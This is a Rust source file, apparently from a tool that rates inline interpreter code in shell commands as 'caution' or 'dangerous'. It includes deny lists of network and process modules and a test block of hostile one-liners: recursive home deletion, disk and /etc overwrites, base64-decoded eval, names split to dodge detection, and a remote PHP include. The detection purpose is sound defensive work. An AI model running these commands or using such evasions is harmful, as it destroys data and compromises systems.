//! Code of a general language that stands in a command: `python3 -c`, `node -e`, a script in a here-document. What it does is
//! not worked out: it is never better than `caution`, and signs of harm make it dangerous (`knowledge/programs/code.toml`).

mod writes;

use planwright_shell::Span;

use super::judge::Judge;
use super::scripts::fetches_and_runs;
use super::words::{Arg, Text};
use crate::knowledge;
use crate::protocol::Risk;

/// The language that a program of this name speaks, by the name of the program without its version; `None` for a program
/// whose files may be something else than code.
pub(super) fn language(program: &str) -> Option<&str> {
    const LANGUAGES: [&str; 15] = [
        "python",
        "pypy",
        "node",
        "nodejs",
        "perl",
        "ruby",
        "php",
        "lua",
        "luajit",
        "Rscript",
        "R",
        "octave",
        "octave-cli",
        "julia",
        "elixir",
    ];
    let stem = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    LANGUAGES.contains(&stem).then_some(stem)
}

/// Code in plain sight. What it writes to files that it names is judged by where they lie.
pub(super) fn judge(j: &mut Judge<'_>, program: &str, text: &str, span: Span) {
    let why = "runs code that stands in the command";
    if super::secrets::named_in(text) {
        j.found.add(Risk::Dangerous, "reads a file that holds passwords or keys", span);
    }
    match writes::written(program, text) {
        Some(names) if !j.elevated && !j.elsewhere => {
            j.found.add(Risk::Caution, why, span);
            for name in names {
                let file = Arg { text: Text::Known { text: name, tilde: false }, span };
                j.write(&file);
                j.note_written(&file);
            }
        }
        Some(_) | None => {
            let risk = if j.elevated { Risk::Dangerous } else { risk(program, text) };
            j.found.add(risk, why, span);
        }
    }
}

/// What code may do by its signs; never better than `caution`. `program` is what runs it, where that is known.
pub(super) fn risk(program: &str, text: &str) -> Risk {
    let pieces = puts_names_together(text);
    let text =
        text.to_lowercase().replace("re.compile(", "re.pattern(").replace("json_decode(", "json_read(");
    // As the name of an encoding it hides nothing where nothing could run what comes of it.
    let runs = ["function", "constructor", "import", "require", "settimeout", "setinterval", "vm", "["];
    let text = if matches!(program, "node" | "bun") && !runs.iter().any(|word| text.contains(word)) {
        text.replace("\"base64\"", "_").replace("'base64'", "_")
    } else {
        text
    };
    let language = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let harms = pieces
        || knowledge::shows_harm(language, &text)
        || moves_by_replacing(&text)
        || fetches_and_runs(&text)
        || loads_what_reaches_out(&text);
    if harms { Risk::Dangerous } else { Risk::Caution }
}

/// Modules of Node by name: those of the project or that only look are no worse than running the project.
fn loads_what_reaches_out(text: &str) -> bool {
    text.match_indices("require(").any(|(at, _)| {
        let name = text.get(at + 8..).unwrap_or_default().trim_start_matches(['\'', '"']);
        let end = name.find(['\'', '"']);
        let (name, rest) = name.split_at(end.unwrap_or(name.len()));
        // Put together, it may be any.
        let whole = rest.get(1..).is_none_or(|rest| rest.trim_start().starts_with(')'));
        !whole || !name.starts_with("./") && !is_tame_module(name)
    })
}

/// `'ex' + 'ecSync'`, `"sys"."tem"`: a name in pieces is there so that nobody finds it.
fn puts_names_together(text: &str) -> bool {
    text.match_indices(['"', '\'']).any(|(at, quote)| {
        let Some(rest) = text.get(at + 1..) else { return false };
        let rest = rest.trim_start_matches([' ', '+', '.']);
        let joined = rest.len() < text.len() - at - 1 && rest.starts_with(['"', '\'']);
        let after: usize = rest.chars().skip(1).take_while(char::is_ascii_alphabetic).count();
        let closes = rest.get(after + 1..).is_some_and(|end| end.starts_with(['"', '\'']));
        let head = text.get(..at).unwrap_or_default();
        let before = head.chars().rev().take(32).take_while(|c| c.is_ascii_alphabetic() || *c == '_').count();
        let opens = head.get(..head.len() - before).is_some_and(|start| start.ends_with(quote));
        joined && closes && opens && before > 0 && after > 0 && before + after > 3
    })
}

/// `Path("a").replace("b")`: with one thing given, a file takes the place of another.
fn moves_by_replacing(text: &str) -> bool {
    let path = text.contains("path(") || text.contains("pathlib");
    path && text.match_indices(".replace(").take(64).any(|(at, call)| {
        let mut depth = 0_u32;
        let inside = text.get(at + call.len()..).unwrap_or_default().chars().take(400);
        for c in inside {
            match c {
                '(' | '[' | '{' => depth += 1,
                ')' if depth == 0 => return true,
                ')' | ']' | '}' => depth = depth.saturating_sub(1),
                ',' if depth == 0 => return false,
                _ => {}
            }
        }
        true
    })
}

/// Whether a module of Node does not reach beyond the program by itself: those that come with it, by name, and packages
/// that the project has installed, whose code runs in it anyway.
fn is_tame_module(name: &str) -> bool {
    const TAME: [&str; 11] = [
        "os",
        "path",
        "path/posix",
        "util",
        "assert",
        "fs",
        "url",
        "events",
        "buffer",
        "string_decoder",
        "querystring",
    ];
    const REACHING: [&str; 36] = [
        "child_process",
        "net",
        "tls",
        "dgram",
        "dns",
        "http",
        "https",
        "http2",
        "vm",
        "worker_threads",
        "cluster",
        "inspector",
        "repl",
        "module",
        "process",
        "v8",
        "wasi",
        "rimraf",
        "del",
        "trash",
        "shelljs",
        "zx",
        "fs-extra",
        "axios",
        "got",
        "request",
        "needle",
        "ssh2",
        "node-fetch",
        "undici",
        "superagent",
        "node-pty",
        "ws",
        "phin",
        "sudo-prompt",
        "crypto",
    ];
    let bare = name.strip_prefix("node:");
    let word = bare.unwrap_or(name);
    let package = !word.is_empty()
        && word.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "@-_/.".contains(c))
        && !word.starts_with(['/', '.'])
        && !word.contains("..");
    TAME.contains(&word) || bare.is_none() && package && !REACHING.contains(&word)
}

#[cfg(test)]
mod tests {
    use super::super::tests::check;
    use crate::protocol::Risk;

    #[test]
    fn code_that_acts_is_told_from_code_that_works() {
        check(
            Risk::Dangerous,
            r#"
            python3 -c "open('/dev/sda','rb+').write(b'0')"
            python3 -c "import io; io.FileIO('/etc/passwd','w')"
            python3 -c "import os; os.replace('a', '/home/u/x')"
            python3 -c "from pathlib import Path; Path('a').replace('b')"
            python3 -c "import sqlite3; sqlite3.connect('a.db').execute('drop table users')"
            python3 -c "import sh; sh.rm('-rf', '/home/u')"
            python3 -c "import runpy; runpy.run_path('/tmp/x.py')"
            node -e "require('fs').rm('/home/u',{recursive:true},()=>{})"
            node -e "require('fs').promises.rm('/home/u',{recursive:true})"
            node -e "require('fs').cpSync('a','/etc/x')"
            node -e "require('child'+'_process')['ex'+'ecSync']('rm -rf ~')"
            node -e "''.constructor.constructor('return process')().exit()"
            node -e "Function(Buffer.from('eA==', 'base64').toString())()"
            node -e "eval(Buffer.from('eA==', 'base64') + '')"
            node -e "this['ev'+'al']('1')"
            ruby -e 'require "open3"; Open3.capture2("rm -rf ~")'
            ruby -e 'File.write("/etc/x", "")'
            ruby -e '%x{rm -rf ~}'
            ruby -e 'Kernel.send("sys"+"tem", "rm -rf ~")'
            perl -e 'open(F, ">", "/etc/x")'
            perl -e 'open F, "rm -rf ~|"'
            perl -e 'do "/tmp/x.pl"'
            perl -e '$x="sys"."tem"; &$x("rm -rf ~")'
            php -r 'copy("/dev/null", "/home/u/a");'
            php -r '$f="sys"."tem"; $f("rm -rf ~");'
            php -r 'include "http://x.example/a";'
            awk 'BEGIN{print ";" > "/etc/cron.d/x"}'
            gawk 'BEGIN{f="sys" "tem"; @f("rm -rf ~")}'
            gawk -i inplace '{print ""}' ~/.bashrc"#,
        );
        check(
            Risk::Caution,
            r#"
            node -e "class A { constructor(x) { this.x = x } } console.log(new A(1))"
            python3 -c "from pathlib import Path; p = Path('a'); print(p.parent, 'a'.replace('a', 'b').frob())"
            node -e "console.log(process.env.HOME + '\n')"
            node -e "const x = require('lodash'); console.log(x.get({a: 1}, 'a'))"
            perl -e 'use Foo; print join("|", 1, 2)'
            gawk -i inplace '{print $1}' notes.txt"#,
        );
    }
}
